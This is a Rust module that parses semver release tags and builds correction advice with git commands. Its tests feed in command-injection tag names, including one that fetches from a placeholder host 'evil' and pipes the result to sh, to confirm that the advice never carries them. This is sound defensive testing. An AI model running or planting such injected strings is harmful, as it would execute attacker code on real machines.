//! A tag's name and the version in it. No I/O.

use std::cmp::Ordering;

use semver::{BuildMetadata, Prerelease, Version};

use crate::action::inputs::text_value;
use crate::github::is_plain;
use crate::outcome::Outcome;
use crate::text::{Foreign, message};

/// Longest name shown.
const SHOWN: usize = 120;

text_value!(
    /// What stands before the version in the name of a tag.
    name pub struct Prefix, "the beginning of a tag: letters, digits and `._-+/@`, at most 100", "v",
    |text| text.len() <= 100 && is_plain(&format!("{text}1.0.0"))
);

impl Prefix {
    /// `v`, or `v-<component>-` where a repository holds several.
    #[must_use]
    pub fn of(component: Option<&str>) -> Self {
        Self(component.map_or_else(|| "v".to_owned(), |component| format!("v-{component}-")))
    }

    /// The name of a tag.
    #[must_use]
    pub fn tag(&self, version: &Version) -> String {
        format!("{self}{version}")
    }
}

/// A tag that names a version.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Release {
    /// Its name.
    pub tag: String,
    /// The version in it.
    pub version: Version,
}

impl Release {
    /// Reads a tag's name: the prefix, then a version exactly as <https://semver.org/spec/v2.0.0.html> has it.
    #[must_use]
    pub fn read(tag: &str, prefix: &Prefix) -> Option<Self> {
        let version = Version::parse(tag.strip_prefix(prefix.as_str())?).ok()?;
        Some(Self { tag: tag.to_owned(), version })
    }

    /// True for a version such as `1.3.0-rc.1`.
    #[must_use]
    pub fn is_prerelease(&self) -> bool {
        !self.version.pre.is_empty()
    }

    /// The least full version that comes after this one.
    #[must_use]
    pub fn next(&self) -> Version {
        let patch = self.version.patch;
        Version {
            patch: if self.is_prerelease() { patch } else { patch.saturating_add(1) },
            pre: Prerelease::EMPTY,
            build: BuildMetadata::EMPTY,
            ..self.version
        }
    }
}

/// The greatest release below this one: for a full release the greatest full one, since its pre-releases never were what users
/// had before; for a pre-release the greatest of any kind.
#[must_use]
pub fn previous<'a>(release: &Release, others: &'a [Release]) -> Option<&'a Release> {
    let below = others.iter().filter(|other| other.version.cmp_precedence(&release.version) == Ordering::Less);
    below
        .filter(|other| release.is_prerelease() || !other.is_prerelease())
        .max_by(|one, other| one.version.cmp(&other.version))
}

/// Why a tag's name is not that of a release, and what would be.
#[must_use]
pub fn refusal(tag: &str, prefix: &Prefix) -> Outcome {
    let label = Foreign::new(tag).for_message(SHOWN);
    let Some(rest) = tag.strip_prefix(prefix.as_str()) else {
        let outcome = Outcome::fail(message!("tag-prefix", "tag {label} does not begin with `{prefix}`"));
        if let Some(other) = tag.strip_prefix('v').and_then(component) {
            return outcome.advise(format!(
                "it looks like a tag of the component {other}: correct the input `component`, or `prefix`"
            ));
        }
        let outcome = match correction(tag) {
            Some(version) => outcome.advise(format!("name the tag {}", prefix.tag(&version))),
            None => outcome,
        };
        return outcome
            .advise("or correct the input `prefix`; with the input `component` tags begin with `v-<component>-`");
    };
    let problem = Version::parse(rest).err().map_or_else(String::new, |error| format!(": {error}"));
    let rest_shown = Foreign::new(rest).for_message(SHOWN);
    let outcome = Outcome::fail(message!(
        "tag-no-version",
        "tag {label} is not a version: after `{prefix}` comes \"{rest_shown}\"{problem}"
    ));
    if let Some(component) = component(rest) {
        return outcome
            .advise(format!("it may be a tag of the component {component}: give the input `component: {component}`"));
    }
    match correction(rest) {
        Some(version) => {
            let name = prefix.tag(&version);
            let outcome =
                outcome.advise(format!("name it {name}: three numbers without leading zeros, as semver.org has them"));
            if is_plain(tag) {
                outcome
                    .advise(format!("git tag -a {name} -m {name} {tag}^{{}}"))
                    .advise(format!("git push origin {name}"))
            } else {
                outcome
            }
        }
        None => outcome.advise(format!(
            "name a release {prefix}1.2.3, or {prefix}1.2.3-rc.1 for a pre-release, as semver.org has it"
        )),
    }
}

/// The version that was probably meant: two numbers, leading zeros, another letter before them.
fn correction(text: &str) -> Option<Version> {
    let text = text.trim_start_matches(['v', 'V', '-', '_', '.']);
    let end = text.find(['-', '+']).unwrap_or(text.len());
    let (core, tail) = text.split_at(end);
    let mut numbers: Vec<u64> = core
        .split('.')
        .map(|part| part.bytes().all(|byte| byte.is_ascii_digit()).then(|| part.parse().ok()).flatten())
        .collect::<Option<_>>()?;
    if numbers.len() > 3 {
        return None;
    }
    numbers.resize(3, 0);
    let numbers: Vec<String> = numbers.iter().map(u64::to_string).collect();
    Version::parse(&format!("{}{tail}", numbers.join("."))).ok()
}

/// The component that a name such as `-orders-1.2.3` speaks of.
fn component(rest: &str) -> Option<&str> {
    let rest = rest.strip_prefix('-')?;
    let dashes = rest.match_indices('-').map(|(place, _)| place);
    let end = dashes.into_iter().find(|place| Version::parse(&rest[place + 1..]).is_ok())?;
    Some(&rest[..end]).filter(|name| is_plain(name) && !name.contains(['/', '+', '@']))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::hostile::{assert_harmless, config, like, reads_plainly};

    #[test]
    fn a_release_is_the_prefix_and_a_strict_version() {
        let table = [
            ("v", "v1.2.3", Some("1.2.3")),
            ("v", "v1.2.3-rc.1+build.5", Some("1.2.3-rc.1+build.5")),
            ("v", "v-billing-9.0.0", None),
            ("v-orders-", "v-orders-1.2.3", Some("1.2.3")),
            ("v-orders-", "v-billing-9.0.0", None),
            ("v-orders-", "v1.2.3", None),
            ("release/", "release/0.0.1", Some("0.0.1")),
            ("v", "v1.2", None),
            ("v", "v01.2.3", None),
            ("v", "v1.2.3-01", None),
            ("v", "v1.2.3-", None),
            ("v", "v1.2.3.4", None),
            ("v", "v 1.2.3", None),
            ("v", "V1.2.3", None),
            ("v", "v1.2.3\n", None),
            ("v", "v99999999999999999999.0.0", None),
        ];
        for (prefix, tag, version) in table {
            let read = Release::read(tag, &prefix.parse().unwrap()).map(|release| release.version.to_string());
            assert_eq!(read.as_deref(), version, "{tag:?}");
        }
    }

    #[test]
    fn a_name_that_is_no_version_names_the_right_one() {
        let table = [
            ("v", "v1.02.3", "invalid leading zero in minor version number", "name it v1.2.3: "),
            ("v", "v1.2", "unexpected end of input while parsing minor version number", "name it v1.2.0: "),
            ("v", "v2024.01.15", "invalid leading zero in minor", "name it v2024.1.15: "),
            ("v", "vv1.2.3", "unexpected character 'v'", "name it v1.2.3: "),
            ("v", "v1.2.3-01", "invalid leading zero in pre-release", "name a release v1.2.3, or "),
            ("v", "v1.2.3.4", "unexpected character '.'", "name a release v1.2.3, or "),
            ("v", "latest", "tag latest does not begin with `v`", "or correct the input `prefix`"),
            ("v", "1.2.3", "tag 1.2.3 does not begin with `v`", "name the tag v1.2.3"),
            (
                "v",
                "v-my-app-9.0.0-rc.1",
                "after `v` comes \"-my-app-9.0.0-rc.1\"",
                "it may be a tag of the component my-app",
            ),
            (
                "v-orders-",
                "v-billing-9.0.0",
                "tag v-billing-9.0.0 does not begin with `v-orders-`",
                "it looks like a tag of the component billing: ",
            ),
            ("v", "v$(id)", "unexpected character '$'", "name a release v1.2.3, or "),
        ];
        for (prefix, tag, reason, advice) in table {
            let refusal = refusal(tag, &prefix.parse().unwrap());
            assert!(refusal.reason.contains(reason), "{tag}: {}", refusal.reason);
            assert!(refusal.advice[0].starts_with(advice), "{tag}: {:?}", refusal.advice);
        }
    }

    #[test]
    fn only_plain_names_stand_in_commands() {
        let plain = refusal("v1.02.3", &Prefix::of(None));
        assert_eq!(plain.advice[1..], ["git tag -a v1.2.3 -m v1.2.3 v1.02.3^{}", "git push origin v1.2.3"]);
        let hostile = refusal("v;curl${IFS}evil|sh;01.2.3", &Prefix::of(None));
        assert!(hostile.advice.iter().all(|line| !line.contains("curl")), "{:?}", hostile.advice);
    }

    #[test]
    fn the_next_version_is_a_full_one() {
        for (version, next) in [("1.2.3", "1.2.4"), ("1.3.0-rc.1", "1.3.0"), ("1.2.3+a", "1.2.4")] {
            let release = Release { tag: String::new(), version: version.parse().unwrap() };
            assert_eq!(release.next().to_string(), next);
        }
    }

    #[test]
    fn a_prefix_is_the_beginning_of_a_name() {
        for good in ["v", "v-orders-", "release/", "release-v", "1.x/"] {
            assert!(good.parse::<Prefix>().is_ok(), "{good}");
        }
        for bad in ["../", "/", "-", "v ", "v\n", "a//", "v?", "v#", "v%2f", "..", &"v".repeat(101)] {
            assert!(bad.parse::<Prefix>().is_err(), "{bad}");
        }
        assert_eq!(Prefix::of(Some("orders")).as_str(), "v-orders-");
        assert_eq!(Prefix::of(None).as_str(), "v");
    }

    proptest! {
        #![proptest_config(config())]

        #[test]
        fn any_name_is_a_release_or_refused_in_harmless_words(
            name in like(&["v1.2.3", "v-orders-1.2.3-rc.1+b", "v01.2", "V1", "v99999999999999999999.0.0"]),
            prefix in like(&["v", "v-orders-", "release/"]),
        ) {
            reads_plainly::<Prefix>(&prefix);
            let prefix: Prefix = prefix.parse().unwrap_or_else(|_| Prefix::of(None));
            if let Some(release) = Release::read(&name, &prefix) {
                prop_assert_eq!(prefix.tag(&release.version), release.tag.clone());
                prop_assert!(is_plain(&release.tag) || release.tag.len() > 255, "{}", release.tag);
            } else {
                let refusal = refusal(&name, &prefix);
                prop_assert!(refusal.reason.len() < 600, "{}", refusal.reason);
                assert_harmless(&refusal.reason);
                refusal.advice.iter().for_each(|advice| assert_harmless(advice));
            }
        }
    }
}
